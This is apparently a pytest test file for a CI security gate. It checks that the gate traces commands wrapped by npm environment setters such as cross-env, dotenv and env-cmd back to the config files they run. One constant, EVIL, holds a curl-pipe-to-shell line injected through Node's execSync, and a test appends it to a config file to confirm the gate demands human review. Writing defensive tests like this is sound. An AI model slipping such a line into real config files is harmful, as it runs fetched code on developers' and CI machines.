"""The eighty-first set: a command behind an environment setter (`cross-env NODE_ENV=test jest`, `dotenv -e .env --
vitest run`, `env-cmd -f .env.ci make test`, `dotenvx run -- tox`) is the command the setter runs.

fnm's `pnpm test` runs `cross-env NODE_OPTIONS='--experimental-vm-modules' jest`: Jest loads `jest.config.cjs`, and the
walk read the shell's own `NODE_ENV=test jest` and `env CI=1 jest` but not the npm packages that set the variables
on every platform (cross-env, cross-env-shell, dotenv-cli, env-cmd, dotenvx). Their documented forms are the truth
(no Node package is installed here): `cross-env [VAR=value]... command`, `cross-env-shell [VAR=value]... "command"`,
`dotenv [-e file]... [-v VAR=value]... [-c [env]] -- command`, `env-cmd [-f file] [-e envs] [-r rc] command`,
`dotenvx run [-f file] -- command`. On 13d71d3 every case below with a setter failed (the settings module, task
file or script unnamed); the shell's own forms and the look-alikes (the package installed, a word in a message)
kept what they were.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from citools import RUN_WORKFLOW, tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate

from gatekeeper.classify import wrappers

EVIL = "require('child_process').execSync('curl -s https://127.0.0.1:9 | sh');\n"

# how a setter stands before the command {c}
SETTERS = [
    "cross-env NODE_ENV=test {c}", "cross-env NODE_OPTIONS='--experimental-vm-modules' {c}",
    "cross-env A=1 B=\"two words\" {c}", "npx cross-env CI=true {c}", "cross-env-shell NODE_ENV=test \"{c}\"",
    "dotenv -e .env.test -- {c}", "dotenv -e .env -e .env.local -v CI=1 -- {c}", "dotenv -c test -- {c}",
    "env-cmd -f .env.ci {c}", "env-cmd --file .env {c}", "env-cmd -e test,ci -r .env-cmdrc.json {c}",
    "env-cmd {c}", "dotenvx run -f .env.ci -- {c}", "dotenvx run -- {c}", "npx dotenvx run --env-file=.env -- {c}",
    "cross-env FOO=1 env-cmd -f .env {c}",
]
# (the command, a file it runs or reads by default, what else the tree holds)
COMMANDS = [
    ("jest --ci", "jest.config.cjs", {}), ("vitest run", "vitest.config.ts", {}),
    ("webpack --mode production", "webpack.config.js", {}), ("eslint .", "eslint.config.mjs", {}),
    ("node scripts/build.js", "scripts/build.js", {}), ("make test", "Makefile", {}),
    ("tox -e lint", "tox.ini", {}), ("bash tools/check.sh", "tools/check.sh", {}),
]
# (a definition, how its text holds the line)
DEFINITIONS = ["step", "package", "script"]


def _tree(how: str, line: str, target: str) -> dict[str, str]:
    files = {target: "module.exports = {};\n", "README.md": "x\n", "src/index.js": "export const x = 1\n"}
    if how == "step":
        files[".github/workflows/ci.yml"] = RUN_WORKFLOW.format(run=json.dumps(line))
    elif how == "package":
        files[".github/workflows/ci.yml"] = RUN_WORKFLOW.format(run="npm ci && npm test")
        files["package.json"] = json.dumps({"name": "acme", "scripts": {"test": line}})
    else:
        files[".github/workflows/ci.yml"] = RUN_WORKFLOW.format(run="bash ci/test.sh")
        files["ci/test.sh"] = f"#!/usr/bin/env bash\nset -euo pipefail\n{line}\n"
    return files


@pytest.mark.parametrize("how", DEFINITIONS)
@pytest.mark.parametrize(("command", "target", "extra"), COMMANDS)
def test_the_command_behind_a_setter_is_read(how: str, command: str, target: str, extra: dict[str, str]) -> None:
    missed = [setter for setter in SETTERS
              if target not in tree_runs({**_tree(how, setter.format(c=command), target), **extra})]
    assert missed == [], (how, command)


@pytest.mark.parametrize("how", DEFINITIONS)
@pytest.mark.parametrize("line", ["NODE_ENV=test jest --ci", "env CI=1 jest --ci", "jest --ci"])
def test_the_shells_own_forms_stay_read(how: str, line: str) -> None:
    assert "jest.config.cjs" in tree_runs(_tree(how, line, "jest.config.cjs"))


# the setter's package installed or printed, a setter running nothing the tree holds, a module of another folder
LOOK_ALIKES = [
    ("npm i -D cross-env jest", "jest.config.cjs"),
    ("pnpm add -D cross-env env-cmd dotenv-cli jest", "jest.config.cjs"),
    ("echo cross-env jest", "jest.config.cjs"), ("cross-env NODE_ENV=test", "jest.config.cjs"),
    ("dotenv -e .env -- echo jest", "jest.config.cjs"), ("cross-env CI=1 jest", "docs/jest.config.cjs"),
    ("cross-env CI=1 node src/index.js --config jest.config.cjs", "README.md"),
    ("python -m dotenv list", "jest.config.cjs"),
]


@pytest.mark.parametrize(("line", "target"), LOOK_ALIKES)
def test_a_look_alike_names_nothing_new(line: str, target: str) -> None:
    for how in DEFINITIONS:
        assert target not in tree_runs(_tree(how, line, target)) - {"src/index.js"}, (how, line)


@pytest.mark.parametrize(("run", "config"), [
    ("npx cross-env NODE_ENV=production webpack", "webpack.config.js"),
    ("npx dotenv -e .env.test -- jest --ci", "jest.config.js")])
def test_the_gated_edit_needs_a_human(tmp_path: Path, run: str, config: str) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=run), config: "module.exports = {};\n",
            "README.md": "x\n"}
    _, first, second = two_commits(tmp_path, base, {config: "module.exports = {};\n" + EVIL})
    code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
    assert code == 3, decision["reasons"]
    assert any(reason["rule"] == "core.ci" for reason in decision["reasons"])


def test_a_long_line_of_setters_is_read_in_linear_time() -> None:
    assert_linear(wrappers.commands, repeated("cross-env A=1 ", tail="jest"), budget=0.5)
    assert_linear(wrappers.commands, repeated("dotenv -e .env -v A=1 ", tail="-- jest"), budget=0.5)
